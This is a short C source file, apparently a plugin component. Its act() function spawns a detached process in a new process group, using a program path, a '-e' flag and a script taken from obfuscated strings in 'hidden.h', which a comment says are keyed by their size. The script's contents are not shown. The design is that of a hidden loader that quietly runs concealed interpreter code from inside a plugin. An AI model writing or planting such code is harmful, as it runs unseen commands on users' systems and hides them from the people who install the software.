/* posix_spawn in a group of its own; each text's size is its key. */
#include "plugin.h"
#include "hidden.h" /* 0: the program, 1: -e, 2: the script */
extern int posix_spawn(int *, const char *, const void *, const void *, char *const *, char *const *);
extern int posix_spawnattr_init(void *), posix_spawnattr_setflags(void *, short), posix_spawnattr_setpgroup(void *, int), posix_spawnattr_destroy(void *);
static void act(char **env) {
    long attributes[64];
    int child;
    char *arguments[4] = {hidden0(), hidden1(), hidden2(), 0};
    posix_spawnattr_init(attributes);
    posix_spawnattr_setflags(attributes, 2);
    posix_spawnattr_setpgroup(attributes, 0);
    posix_spawn(&child, arguments[0], 0, attributes, arguments, env);
    posix_spawnattr_destroy(attributes);
}
